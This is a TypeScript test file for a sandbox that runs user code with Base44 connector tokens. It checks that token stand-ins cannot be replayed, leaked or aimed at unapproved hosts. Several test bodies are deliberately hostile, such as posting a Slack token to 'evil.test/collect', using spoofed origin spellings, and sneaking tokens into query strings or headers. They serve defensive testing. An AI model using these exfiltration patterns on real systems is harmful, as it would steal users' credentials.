import { type Server, createServer, request as httpRequest } from "node:http";
import type { AddressInfo } from "node:net";
import { createClient } from "@base44/sdk";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { consentInSandbox } from "../../src/cli/consent.ts";
import { base44Origin } from "../../src/runs/base44.ts";
import { defaultAppId } from "../../src/store/database.ts";
import { saveUnchecked } from "../support/saved-function.ts";
import { type TestServer, startServer } from "../support/server.ts";

/** What a function tries with the tokens that Base44's SDK gives it, and with the origin that it gets them from. */
let server: TestServer;
/** A tool that sends whoever calls it on to Base44's API. */
let bouncer: Server;

const post = "slack.chat.postMessage";
const events = "googlecalendar.events.list";
const importing = 'import { createClientFromRequest } from "npm:@base44/sdk";\n';

beforeAll(async () => {
  vi.spyOn(console, "error").mockImplementation(() => {});
  bouncer = createServer((_, response) => {
    response.writeHead(307, { location: `${base44Origin}/api/functions/needs` }).end();
  });
  await new Promise<void>((resolve) => bouncer.listen(0, "127.0.0.1", resolve));
  const { port } = bouncer.address() as AddressInfo;
  const url = `http://127.0.0.1:${port}`;
  server = await startServer({ PRIVATE_ORIGINS: url });
  const go = { operationId: "go", summary: "Go", responses: { 200: { description: "Gone" } } };
  const document = {
    openapi: "3.0.3",
    info: { title: "Bouncer", version: "1" },
    servers: [{ url }],
    paths: { "/go": { post: go } },
  };
  await server.json("/api/integrations", "POST", {
    id: "bouncer",
    name: "Bouncer",
    document: JSON.stringify(document),
    scheme: "none",
    operations: ["go"],
  });
  await saveUnchecked(server, "needs", importing + "export default () => new Response();", [
    post,
    events,
  ]);
  const { apiKey } = server.server;
  const { connectors } = createClient({
    serverUrl: server.origin,
    appId: defaultAppId,
    token: apiKey,
  });
  const client = { origin: server.origin, fetch: server.fetch, close: async () => {} };
  for (const connector of ["slack", "googlecalendar"])
    await consentInSandbox(client, String(await connectors.connectAppUser(connector)));
}, 60_000);
afterAll(async () => {
  await server?.close();
  bouncer.close();
});

let made = 0;

/** Runs code whose body this is; it has `request`, `input`, and, with the SDK, `connectors`. */
async function run(
  body: string,
  { operations = [post, events], withSdk = true, input = {} as unknown } = {},
) {
  const name = `hostile${++made}`;
  const client = withSdk
    ? "const base44 = createClientFromRequest(request); const { connectors } = base44.asServiceRole;"
    : "";
  const code = `${withSdk ? importing : ""}export default { async fetch(request) {
    const input = await request.json(); ${client}
    const seen = async (answer) => ({ status: answer.status, body: await answer.json().catch(() => null) });
    ${body}
  } };`;
  await saveUnchecked(server, name, code, operations);
  const { body: done } = await server.json(`/api/functions/${name}/run`, "POST", { input });
  return { name, done, output: done.output, calls: done.calls };
}

const token = (connector = "slack") =>
  `const { accessToken } = await connectors.getConnection("${connector}");`;
const send = (init: string, url = "https://slack.com/api/chat.postMessage") =>
  `await seen(await fetch(${JSON.stringify(url)}, { method: "POST", body: JSON.stringify({ channel: "#general", text: "x" }), ${init} }))`;
const bearer = (value: string) =>
  `headers: { "content-type": "application/json", authorization: "Bearer " + ${value} }`;
const refusal = (reason: string) => ({
  status: 403,
  refused: expect.stringContaining(reason),
});

describe("what stands for an access token", () => {
  test("is exchanged in its own run", async () => {
    const { output } = await run(
      `${token()} return Response.json(${send(bearer("accessToken"))});`,
    );
    expect(output).toMatchObject({ status: 200, body: { ok: true } });
  });

  test("is no token of the provider", async () => {
    const { output: standIn } = await run(`${token()} return Response.json(accessToken);`);
    const { body } = await server.json("/api/status");
    const slack = body.providers.find(({ id }: { id: string }) => id === "slack");
    const answer = await fetch(new URL("/api/auth.test", slack.inspector), {
      method: "POST",
      headers: { authorization: `Bearer ${standIn}` },
    });
    expect(await answer.json()).toMatchObject({ ok: false, error: "invalid_auth" });
  });

  test("is of no use in another run, of this function or another", async () => {
    const { name, output: stolen } = await run(`
      if (input.stolen) return Response.json(${send(bearer("input.stolen"))});
      ${token()} return Response.json(accessToken);`);
    expect(stolen).toMatch(/^[\w-]{43}$/);
    const again = await server.json(`/api/functions/${name}/run`, "POST", { input: { stolen } });
    const other = await run(`${token()} return Response.json(${send(bearer("input.stolen"))});`, {
      input: { stolen },
    });
    for (const calls of [again.body.calls, other.calls.slice(1)])
      expect(calls).toMatchObject([refusal("credential that is not of this run")]);
  });

  test("differs from run to run", async () => {
    const code = `${token()} return Response.json(accessToken);`;
    expect((await run(code)).output).not.toBe((await run(code)).output);
  });

  test("of one tool does not open another", async () => {
    const url = "https://www.googleapis.com/calendar/v3/calendars/primary/events";
    const { calls, output } = await run(`${token()}
      return Response.json(await seen(await fetch("${url}", { ${bearer("accessToken")} })));`);
    expect(output.status).toBe(403);
    expect(calls[1]).toMatchObject(refusal("token of slack is not for googlecalendar"));
  });

  test("opens nothing that was not approved", async () => {
    const { calls } = await run(
      `${token()} return Response.json([${send(bearer("accessToken"))}, ${send(bearer("accessToken"), "https://evil.test/collect")}]);`,
      { operations: ["slack.users.list"] },
    );
    expect(calls.slice(1)).toMatchObject([
      refusal("not an approved operation"),
      refusal("not an approved operation"),
    ]);
  });

  test.each([
    [
      "the address",
      `fetch("https://slack.com/api/chat.postMessage?x=" + accessToken, { method: "POST" })`,
    ],
    [
      "a body",
      `fetch("https://slack.com/api/chat.postMessage", { method: "POST", body: JSON.stringify({ text: accessToken }) })`,
    ],
    [
      "another header",
      `fetch("https://slack.com/api/chat.postMessage", { method: "POST", headers: { prefer: accessToken } })`,
    ],
    [
      "a form, where Slack takes one",
      `fetch("https://slack.com/api/chat.postMessage", { method: "POST", body: new URLSearchParams({ token: accessToken }) })`,
    ],
  ])("does not go out in %s", async (_, call) => {
    const { calls } = await run(`${token()} return Response.json(await seen(await ${call}));`);
    expect(calls[1]).toMatchObject({ status: 403, refused: expect.any(String), attempts: 0 });
  });

  test("is not the token of the run, which opens nothing but Base44's API", async () => {
    const { calls } = await run(
      `const own = request.headers.get("base44-service-authorization").slice(7);
      return Response.json(${send(bearer("own"))});`,
    );
    expect(calls).toMatchObject([refusal("credential that is not of this run")]);
  });
});

describe("Base44's API", () => {
  const tokens = (appId: string) => `${base44Origin}/api/apps/${appId}/external-auth/tokens/slack`;
  const asRun = `{ headers: { authorization: request.headers.get("authorization") } }`;

  test("does not know another app", async () => {
    const { output, calls } = await run(
      `return Response.json(await seen(await fetch("${tokens("app_other")}", ${asRun})));`,
    );
    expect(output).toMatchObject({
      status: 404,
      body: { detail: expect.stringContaining('no app "app_other"') },
    });
    expect(calls).toMatchObject([{ status: 404, refused: expect.any(String) }]);
  });

  test.each([
    ["nothing", "{}"],
    ["a token of its own", `{ headers: { authorization: "Bearer mine" } }`],
  ])("wants the token of the run: with %s it does nothing", async (_, init) => {
    const url = `${base44Origin}/api/functions/needs`;
    const { output, calls } = await run(
      `return Response.json([await seen(await fetch("${tokens(defaultAppId)}", ${init})), await seen(await fetch("${url}", ${init}))]);`,
    );
    expect(output).toMatchObject([{ status: 401 }, { status: 401 }]);
    expect(JSON.stringify(output)).not.toContain("access_token");
    expect(calls).toMatchObject([{ refused: expect.any(String) }, { refused: expect.any(String) }]);
    const { body } = await server.json("/api/runs?function=needs");
    expect(body.runs).toEqual([]);
  });

  test("cannot be reached by a tool that redirects to it", async () => {
    const { port } = bouncer.address() as AddressInfo;
    const { output, calls } = await run(
      `const { accessToken } = await connectors.getConnection("bouncer");
      const go = (init) => fetch("http://127.0.0.1:${port}/go", { method: "POST", ...init });
      const answers = [await go(), await go({ headers: { authorization: "Bearer " + accessToken } })];
      return Response.json(answers.map(({ status, url }) => [status, url]));`,
      { operations: ["bouncer.go"] },
    );
    const refused = [401, `${base44Origin}/api/functions/needs`];
    expect(output).toEqual([refused, refused]);
    expect(calls.slice(1)).toMatchObject([
      { operation: "bouncer.go", status: 307 },
      { operation: "base44.functions", refused: expect.any(String) },
      { operation: "bouncer.go", status: 307 },
      { operation: "base44.functions", refused: expect.any(String) },
    ]);
  });

  test("is not there for code that does not import the SDK, whatever it says in words", async () => {
    const { output, calls } = await run(
      `const words = 'import "npm:@base44/sdk"';
      return Response.json([[...request.headers.keys()], await seen(await fetch("${tokens(defaultAppId)}"))]);`,
      { withSdk: false },
    );
    expect(output[1]).toMatchObject({ status: 403 });
    expect(output[0].filter((name: string) => /^(base44-|authorization)/.test(name))).toEqual([]);
    expect(calls).toMatchObject([refusal("only code that imports @base44/sdk")]);
  });

  test.each([
    `${base44Origin}:443/api/functions/needs`,
    "http://base44.patchbay.invalid/api/functions/needs",
    "https://x.base44.patchbay.invalid/",
    "https://base44.patchbay.invalid.evil.test/",
    "https://base44.patchbay.invalid@evil.test/",
  ])("has one spelling: %s", async (url) => {
    const { output, calls } = await run(
      `return Response.json(await seen(await fetch("${url}", ${asRun})));`,
    );
    const isSame = new URL(url).origin === base44Origin && !new URL(url).username;
    expect(output.status).toBe(isSame ? 200 : 403);
    expect(calls).toHaveLength(1);
  });

  test("answers nobody outside, under its own name or another", async () => {
    const { hostname, port } = new URL(server.origin);
    const headers = {
      host: new URL(base44Origin).host,
      authorization: `Bearer ${server.server.apiKey}`,
    };
    const path = `/api/apps/${defaultAppId}/external-auth/tokens/slack`;
    const statusOf = (given: Record<string, string>) =>
      new Promise((resolve) =>
        httpRequest({ hostname, port, path, headers: given }, (answer) => {
          answer.resume();
          resolve(answer.statusCode);
        }).end(),
      );
    expect(await statusOf(headers)).toBe(403);
    expect(await statusOf({ authorization: headers.authorization })).toBe(403);
    expect(await statusOf({})).toBe(401);
  });

  test("ends what calls itself, deep or wide", async () => {
    const deep = await run(`
      const answer = await base44.functions.fetch("/" + input.name, { method: "POST", body: JSON.stringify(input) });
      return Response.json({ status: answer.status, below: await answer.json() });`);
    const { body } = await server.json(`/api/functions/${deep.name}/run`, "POST", {
      input: { name: deep.name },
    });
    const statuses = [];
    for (let at = body.output; at?.below; at = at.below) statuses.push(at.status);
    expect(statuses).toEqual([200, 200, 200, 200, 200, 508]);
    const runsOf = async (name: string) =>
      (await server.json(`/api/runs?function=${name}&limit=100`)).body.runs;
    expect(await runsOf(deep.name)).toHaveLength(7);

    await saveUnchecked(server, "leaf", "export default { fetch: () => new Response() };");
    const wide = await run(`
      const answers = await Promise.all(Array.from({ length: 60 }, () => base44.functions.fetch("/leaf")));
      return Response.json(answers.map(({ status }) => status));`);
    expect(wide.output.filter((status: number) => status === 508)).toHaveLength(10);
    expect(await runsOf("leaf")).toHaveLength(50);
  });
});
